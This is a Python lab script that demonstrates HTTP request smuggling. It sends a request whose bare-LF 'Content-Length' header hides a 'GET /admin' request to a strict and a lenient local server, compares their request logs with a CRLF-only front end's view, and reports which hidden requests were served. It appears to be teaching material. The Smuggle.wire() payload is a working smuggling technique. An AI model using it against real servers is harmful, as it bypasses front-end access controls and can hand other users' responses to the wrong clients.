"""The same request-smuggling bytes against a strict and a lenient rawhttp, and what a
CRLF-only front end makes of them (the scenario ``smuggling-strict-vs-lenient``).

    python -m lab.smuggling_demo --strict-target HOST:PORT     # or STRICT_TARGET=HOST:PORT

The strict server is the lab's rawhttp (the scenario's exec probe hands it over as
``STRICT_TARGET``); the lenient one is started here, ``python -m services.rawhttp
--http-only --lenient`` on a free loopback port, and stopped at the end. The request is
llhttp's "Missing CR between headers": ``Dummy: x\\nContent-Length: N`` in a CRLF head,
whose N bytes of body hide ``GET /admin``. Every target carries a fresh ``?run=`` nonce, so
the servers' request logs (``/_lab/requests``) say which requests each one really served.
Prints one JSON document; exit 0 whenever both servers could be asked (the scenario judges
the answers), 2 on bad input or when a server cannot be reached.
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import socket
import sys
import time
import urllib.request
from dataclasses import dataclass, field
from typing import Any

import h11

from services.common.processes import free_port, service_process, wait_tcp

TARGET_ENV = "STRICT_TARGET"
IO_TIMEOUT = 5.0  # seconds for one connection's answers; both servers answer in milliseconds


# -- the bytes, and the front end's reading of them (no I/O) -----------------------------


@dataclass(frozen=True)
class Smuggle:
    """One run's request: a visible ``GET /?run=N`` whose head hides ``GET /admin?run=N``."""

    nonce: str

    @property
    def visible(self) -> str:
        return f"/?run={self.nonce}"

    @property
    def hidden(self) -> str:
        return f"/admin?run={self.nonce}"

    def wire(self) -> bytes:
        # The bytes a lenient reader takes as the body: the second request line and the
        # start of its header, so the hidden request line follows them.
        swallowed = f"GET {self.visible} HTTP/1.1\r\nDummy: ".encode()
        return (
            f"GET {self.visible} HTTP/1.1\r\nHost: lab\r\n"
            f"Dummy: x\nContent-Length: {len(swallowed)}\r\n\r\n".encode()
            + swallowed
            + f"GET {self.hidden} HTTP/1.1\r\nHost: lab\r\n\r\n".encode()
        )


@dataclass
class FrontEndRequest:
    method: str
    target: str
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes = b""


def crlf_requests(data: bytes) -> list[FrontEndRequest]:
    """Frame ``data`` as a front end that ends lines at CRLF only (RFC 9112 §2.2) would.

    A bare LF is then part of a field value, not a line end. Framing is by Content-Length
    (this lesson's request has no Transfer-Encoding; one that does is refused here rather
    than framed wrongly). A malformed head raises ValueError.
    """
    requests: list[FrontEndRequest] = []
    rest = data
    while rest:
        end = rest.find(b"\r\n\r\n")
        if end < 0:
            raise ValueError(f"an unterminated head: {rest[:80]!r}")
        request_line, *lines = rest[:end].decode("latin-1").split("\r\n")
        parts = request_line.split(" ")
        if len(parts) != 3:
            raise ValueError(f"not a request line: {request_line!r}")
        request = FrontEndRequest(parts[0], parts[1])
        for line in lines:
            name, colon, value = line.partition(":")
            if not colon:
                raise ValueError(f"a header line without a colon: {line!r}")
            request.headers.append((name, value.strip(" \t")))
        names = {name.lower() for name, _ in request.headers}
        if "transfer-encoding" in names:
            raise ValueError("this front end frames by Content-Length only")
        length = [v for n, v in request.headers if n.lower() == "content-length"]
        size = int(length[0]) if length else 0
        body_start = end + 4
        request.body = rest[body_start : body_start + size]
        rest = rest[body_start + size :]
        requests.append(request)
    return requests


def answers_of(data: bytes) -> list[tuple[int, bytes]]:
    """Each complete response in ``data``, as (status, body) (h11, an independent parser)."""
    conn = h11.Connection(h11.CLIENT)
    if data:
        conn.receive_data(data)
    conn.receive_data(b"")  # the server closed: every answer is in
    answers: list[tuple[int, bytes]] = []
    while True:
        conn.send(h11.Request(method="GET", target="/", headers=[("Host", "lab")]))
        conn.send(h11.EndOfMessage())
        status, body = 0, b""
        try:
            event = conn.next_event()
            while not isinstance(event, h11.EndOfMessage):
                if isinstance(event, h11.Response):
                    status = event.status_code
                elif isinstance(event, h11.Data):
                    body += event.data
                elif event is h11.PAUSED or isinstance(event, h11.ConnectionClosed):
                    return answers
                event = conn.next_event()
        except h11.RemoteProtocolError:
            return answers  # a truncated answer counts as none
        answers.append((status, body))
        if conn.their_state is not h11.DONE or conn.our_state is not h11.DONE:
            return answers
        conn.start_next_cycle()


# -- talking to the servers ---------------------------------------------------------------


def exchange(host: str, port: int, data: bytes) -> bytes:
    """Send ``data`` in one write, half-close, read every answer until the server closes."""
    with socket.create_connection((host, port), timeout=IO_TIMEOUT) as sock:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        chunks: list[bytes] = []
        deadline = time.monotonic() + IO_TIMEOUT
        while time.monotonic() < deadline:
            try:
                chunk = sock.recv(65536)
            except (ConnectionResetError, TimeoutError):
                break  # what arrived before a reset, or a server that stays open, still counts
            if not chunk:
                break
            chunks.append(chunk)
        return b"".join(chunks)


def served(host: str, port: int, nonce: str) -> list[dict[str, Any]]:
    """The requests of this run that the server logged (its ``/_lab/requests``)."""
    url = f"http://{host}:{port}/_lab/requests?limit=200"
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # no $http_proxy
    with direct.open(url, timeout=IO_TIMEOUT) as answer:
        entries = json.load(answer)["requests"]
    return [
        {"method": e["method"], "target": e["path"], "status": e["status"]}
        for e in entries
        if f"run={nonce}" in e["path"]
    ]


def judge(host: str, port: int, smuggle: Smuggle, front: list[FrontEndRequest]) -> dict:
    answers = answers_of(exchange(host, port, smuggle.wire()))
    log = served(host, port, smuggle.nonce)
    statuses = [status for status, _ in answers]
    return {
        "address": f"{host}:{port}",
        "statuses": statuses,
        # Why a 400 refused the head, in the server's words.
        "refusal": answers[0][1][:200].decode("latin-1").strip()
        if answers and answers[0][0] == 400
        else None,
        "served": log,
        "hidden_served": any(e["target"] == smuggle.hidden for e in log),
        "hidden_status": next((e["status"] for e in log if e["target"] == smuggle.hidden), None),
        # Served requests the front end never sent.
        "smuggled": [e["target"] for e in log if e["target"] not in {r.target for r in front}],
        # The front end hands the answers out in order, one per request it forwarded: with
        # a smuggled request in between, a client gets the answer meant for another request.
        "front_end_hands_out": [
            {
                "asked": f"{r.method} {r.target}",
                "status": statuses[i] if i < len(statuses) else None,
                "answer_was_for": f"{log[i]['method']} {log[i]['target']}"
                if i < len(log)
                else None,
            }
            for i, r in enumerate(front)
        ],
    }


class AskError(Exception):
    """A server could not be asked: its name, address and the cause, in one line."""


def ask(name: str, host: str, port: int, smuggle: Smuggle, front: list[FrontEndRequest]) -> dict:
    try:
        return judge(host, port, smuggle, front)
    except OSError as exc:  # refused, reset, timed out, unknown host, an HTTP error
        cause = exc.strerror or str(exc) or type(exc).__name__
        raise AskError(f"cannot ask {name} at {host}:{port}: {cause}") from None
    except (ValueError, KeyError) as exc:
        raise AskError(f"{name} at {host}:{port}: /_lab/requests is not its log ({exc})") from None


def parse_address(text: str) -> tuple[str, int]:
    host, colon, port = text.rpartition(":")
    if not colon or not host or not port.isdigit() or not 0 < int(port) < 65536:
        raise ValueError(f"expected HOST:PORT, got {text!r}")
    return host, int(port)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m lab.smuggling_demo", description=__doc__)
    p.add_argument("--strict-target", help=f"the strict rawhttp, HOST:PORT (or ${TARGET_ENV})")
    args = p.parse_args(argv)
    text = args.strict_target or os.environ.get(TARGET_ENV)
    if not text:
        print(f"error: pass --strict-target HOST:PORT or set {TARGET_ENV}", file=sys.stderr)
        return 2
    try:
        strict_host, strict_port = parse_address(text)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2

    smuggle = Smuggle(secrets.token_hex(4))
    front = crlf_requests(smuggle.wire())
    report: dict[str, Any] = {
        "request": smuggle.wire().decode("latin-1"),
        "hidden": f"GET {smuggle.hidden}",
        "front_end": {
            "framing": "CRLF lines only (RFC 9112 §2.2), Content-Length bodies",
            "count": len(front),
            "targets": [r.target for r in front],
            "body_bytes": [len(r.body) for r in front],
            "sees_hidden": any(r.target == smuggle.hidden for r in front),
            "requests": [
                {"method": r.method, "target": r.target, "headers": r.headers} for r in front
            ],
        },
    }
    lenient_port = free_port()
    lenient_args = ["-m", "services.rawhttp", "--host", "127.0.0.1", "--port", str(lenient_port)]
    lenient_args += ["--mode", "selectors", "--http-only", "--lenient"]
    try:
        report["strict"] = ask("the strict rawhttp", strict_host, strict_port, smuggle, front)
        with service_process(lenient_args, lambda: wait_tcp(lenient_port, timeout=0.5)):
            report["lenient"] = ask(
                "the lenient rawhttp", "127.0.0.1", lenient_port, smuggle, front
            )
    except (RuntimeError, TimeoutError) as exc:  # the lenient server did not start
        print(f"error: cannot start a lenient rawhttp: {exc}", file=sys.stderr)
        return 2
    except AskError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    print(json.dumps(report, indent=2))
    return 0


if __name__ == "__main__":
    sys.exit(main())
